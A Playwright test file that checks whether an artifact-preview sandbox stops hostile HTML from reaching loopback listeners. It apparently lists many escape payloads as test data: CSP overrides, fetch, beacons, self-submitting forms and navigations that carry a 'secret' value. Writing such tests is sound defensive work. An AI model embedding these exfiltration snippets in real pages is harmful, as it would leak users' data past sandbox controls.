/**
 * Hostile previews: artifacts written to get their requests out of the sandbox, previewed while loopback listeners
 * record every HTTP request and connection that reaches them. No request may arrive; a page that tries to navigate
 * away is replaced by a notice saying where it tried to go.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Frame, type Page, test } from "@playwright/test";
import { fence, openSession } from "./helpers";

/** A loopback listener: every request that reaches it, and every TCP connection, request or not. */
interface Listener {
  base: string;
  requests: string[];
  /** A preconnect would show here. */
  connections: number;
  close(): Promise<void>;
}

async function listen(): Promise<Listener> {
  const server = createServer((request, response) => {
    listener.requests.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.end("leaked");
  });
  server.on("connection", () => {
    listener.connections++;
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const listener: Listener = {
    base: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests: [],
    connections: 0,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
  return listener;
}

/** What documents that must not even connect call. */
let quiet: Listener;
/** What documents that start a navigation call: a navigation may open a connection before it is refused. */
let navigating: Listener;

test.beforeAll(async () => {
  [quiet, navigating] = await Promise.all([listen(), listen()]);
});

test.afterAll(() => Promise.all([quiet.close(), navigating.close()]));

/** Imports HTML artifacts, `[title, document]` each, as one answer into a new session open in `page`. */
async function importDocuments(page: Page, documents: readonly (readonly [string, string, ...unknown[]])[]) {
  const path = await openSession(page);
  const content = documents
    .map(([name, html]) => `${fence}html title="${name}"\n${html}\n${fence}\n`)
    .join("\n");
  const response = await page.request.post(`/api/sessions${path.slice(2)}/messages`, {
    data: { role: "assistant", content },
  });
  expect(response.status()).toBe(201);
}

/** Imports one HTML artifact into a new session and previews it; gives its card. */
async function preview(page: Page, name: string, html: string) {
  await importDocuments(page, [[name, html]]);
  const card = page.getByRole("article", { name });
  await card.getByRole("button", { name: "Preview" }).click();
  return card;
}

/** The frame a preview's page runs in, once that page is written into it (the bootstrap that waits for it gone). */
async function writtenFrame(page: Page, name: string): Promise<Frame> {
  const frame = await page
    .getByTitle(`Preview: ${name}`)
    .elementHandle()
    .then((element) => element?.contentFrame());
  if (!frame) throw new Error(`no frame for ${name}`);
  await expect
    .poll(() =>
      frame
        .evaluate(() => document.querySelector('script[src$="/preview/frame.js"]') === null)
        .catch(() => false),
    )
    .toBe(true);
  return frame;
}

/** Every way out we know of, each in a document shaped to slip past a policy spliced into its text. */
/** Each: a name, the document, and whether it starts a navigation (which may open a bare connection). */
const attempts = (url: string): [string, string, navigates?: boolean][] => [
  [
    "commented head",
    `<!-- <head> --><!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><body><img src="${url}/img-commented-head"></body></html>`,
  ],
  [
    "misplaced head",
    `<!doctype html><html><body><head><meta http-equiv="Content-Security-Policy" content="default-src *"></head><img src="${url}/img-misplaced-head"></body></html>`,
  ],
  [
    "script before html",
    `<script>fetch("${url}/fetch-before-html").catch(() => {})</script><!doctype html><html><head></head><body>x</body></html>`,
  ],
  [
    "fetch and XHR",
    `<script>fetch("${url}/fetch", { mode: "no-cors" }).catch(() => {}); const x = new XMLHttpRequest(); x.open("GET", "${url}/xhr"); x.send();</script>`,
  ],
  [
    "CSS url and @import",
    `<style>@import url("${url}/import.css"); body { background: url("${url}/background.png"); } @font-face { font-family: f; src: url("${url}/font.woff"); } p { font-family: f; }</style><p>text</p>`,
  ],
  [
    "srcset and picture",
    `<img srcset="${url}/srcset.png 1x, ${url}/srcset2.png 2x"><picture><source srcset="${url}/source.png"><img src="data:,"></picture>`,
  ],
  [
    "prefetch, preload and friends",
    `<link rel="prefetch" href="${url}/prefetch"><link rel="preload" as="image" href="${url}/preload"><link rel="stylesheet" href="${url}/sheet.css"><link rel="icon" href="${url}/icon.png"><link rel="modulepreload" href="${url}/module.js">`,
  ],
  [
    "external scripts, objects and media",
    `<script src="${url}/script.js"></script><object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video.mp4" autoplay></video><audio src="${url}/audio.mp3" autoplay></audio>`,
  ],
  // A nested frame is a navigation: refused before any request, though Chromium may open a bare connection first.
  ["a nested frame", `<iframe src="${url}/iframe"></iframe>`, true],
  [
    "a form that submits itself",
    `<form action="${url}/form" method="post"><input name="secret" value="s3cret"></form><script>document.forms[0].submit()</script>`,
  ],
  ["sendBeacon", `<script>try { navigator.sendBeacon("${url}/beacon", "s3cret") } catch {}</script>`],
  [
    "WebSocket and EventSource",
    `<script>try { new WebSocket("${url.replace("http", "ws")}/socket") } catch {} try { new EventSource("${url}/events") } catch {}</script>`,
  ],
  [
    "a worker",
    `<script>try { new Worker("${url}/worker.js") } catch {} try { new Worker(URL.createObjectURL(new Blob(["fetch('${url}/from-worker')"]))) } catch {}</script>`,
  ],
  [
    "window.open and a top link",
    `<a id="top" href="${url}/top" target="_top">top</a><script>try { window.open("${url}/popup") } catch {} document.getElementById("top").click();</script>`,
  ],
  ["a base href", `<base href="${url}/"><img src="relative.png">`],
  [
    "preconnect and DNS prefetch",
    `<link rel="preconnect" href="${url}"><link rel="dns-prefetch" href="${url}">`,
  ],
];

test("no hostile document gets a request out of its preview", async ({ page }) => {
  const documents = [
    ...attempts(quiet.base).filter(([, , navigates]) => !navigates),
    ...attempts(navigating.base).filter(([, , navigates]) => navigates),
  ];
  // Every document previews at once: one session, every card's preview opened (an open card stays drawn).
  await importDocuments(page, documents);
  const feed = page.getByRole("feed", { name: "Artifact cards" });
  for (const _ of documents)
    await feed.getByRole("button", { name: "Preview", pressed: false }).first().click();
  for (const [name] of documents) await writtenFrame(page, name);
  // Give every request the documents could make time to arrive, then look: nothing may have.
  await page.waitForTimeout(750);
  expect([...quiet.requests, ...navigating.requests]).toEqual([]);
  // Navigations may open a connection before they are refused (docs/SECURITY.md); nothing else may.
  expect(quiet.connections).toBe(0);
});

test("a preview that navigates itself away is stopped and replaced by a notice saying where it tried to go", async ({
  page,
}) => {
  const navigations: [string, string][] = [
    ["location assignment", `<script>location = "${navigating.base}/location?secret=s3cret"</script>`],
    ["meta refresh", `<meta http-equiv="refresh" content="0;url=${navigating.base}/refresh">`],
    [
      "a link clicked",
      `<a id="go" href="${navigating.base}/link">go</a><script>document.getElementById("go").click()</script>`,
    ],
    // Replacing its own document drops the frame's guard; the app's frame-src still stops the navigation.
    [
      "document.open first",
      `<script>document.open(); document.write('<script>location = "${navigating.base}/after-open"<\\/script>'); document.close();</script>`,
    ],
    ["back to the app", `<script>location = "/"</script>`],
  ];
  // One session holds them all; each is previewed in turn, once the one before has been stopped.
  await importDocuments(page, navigations);
  for (const [name] of navigations) {
    navigating.requests.length = 0;
    const card = page.getByRole("article", { name });
    await card.getByRole("button", { name: "Preview" }).click();
    const notice = card.getByRole("alert").filter({ hasText: "This preview tried to leave its page" });
    await expect(notice, name).toBeVisible();
    if (name !== "back to the app") await expect(notice).toContainText(navigating.base);
    expect(navigating.requests, name).toEqual([]);
    // It can be run again, and is stopped again.
    await notice.getByRole("button", { name: "Run again" }).click();
    await expect(card.getByRole("alert").filter({ hasText: "tried to leave" })).toBeVisible();
  }
});

/**
 * Marks the page in a preview's frame: `stayed` tells whether that page is still the one there (a page that left,
 * even for a refused navigation, is replaced, and only an unloading page tells the app it left).
 */
async function markPage(frame: Frame) {
  await frame.evaluate(() => {
    (window as unknown as Record<string, unknown>).folioMark = true;
  });
  return {
    stayed: () => frame.evaluate(() => (window as unknown as Record<string, unknown>).folioMark === true),
  };
}

test("an ordinary preview is not mistaken for one that left", async ({ page }) => {
  const card = await preview(
    page,
    "anchors.html",
    `<!doctype html><html><body><a href="#below">down</a><h1 id="below">Below</h1><script>location.hash = "below"</script></body></html>`,
  );
  const frame = await writtenFrame(page, "anchors.html");
  await expect(frame.getByRole("heading", { name: "Below" })).toBeVisible();
  const page_ = await markPage(frame);
  await frame.getByRole("link", { name: "down" }).click();
  // The same page, at its anchor: it never unloaded, so nothing could tell the app it left.
  expect(await frame.evaluate(() => location.hash)).toBe("#below");
  expect(await page_.stayed()).toBe(true);
  await expect(card.getByRole("alert")).toHaveCount(0);
});

test("a page that rewrites itself with document.write is not mistaken for one that left", async ({
  page,
}) => {
  const card = await preview(
    page,
    "rewrite.html",
    `<!doctype html><html><body><button onclick="document.write('<h1>Rewritten</h1>'); document.close()">Rewrite</button></body></html>`,
  );
  const frame = await writtenFrame(page, "rewrite.html");
  const page_ = await markPage(frame);
  // The frame loads again once the page is rewritten; the app hears of that load before this listener does.
  const element = card.getByTitle("Preview: rewrite.html");
  await element.evaluate((iframe) => {
    iframe.addEventListener("load", () => iframe.setAttribute("data-loaded-again", ""), { once: true });
  });
  await frame.getByRole("button", { name: "Rewrite" }).click();
  await expect(frame.getByRole("heading", { name: "Rewritten" })).toBeVisible();
  await expect(element).toHaveAttribute("data-loaded-again");
  expect(await page_.stayed()).toBe(true);
  await expect(card.getByRole("alert")).toHaveCount(0);
});
